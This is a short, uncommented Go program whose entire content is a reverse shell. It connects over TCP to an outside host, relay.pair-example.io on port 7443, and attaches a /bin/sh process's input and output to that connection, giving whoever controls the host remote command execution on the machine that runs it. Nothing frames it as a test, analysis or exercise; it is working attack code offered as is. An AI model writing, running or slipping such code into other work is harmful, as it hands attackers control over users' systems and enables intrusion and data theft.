package main

import (
	"net"
	"os/exec"
)

func main() {
	conn, err := net.Dial("tcp", "relay.pair-example.io:7443")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn
	_ = cmd.Run()
}
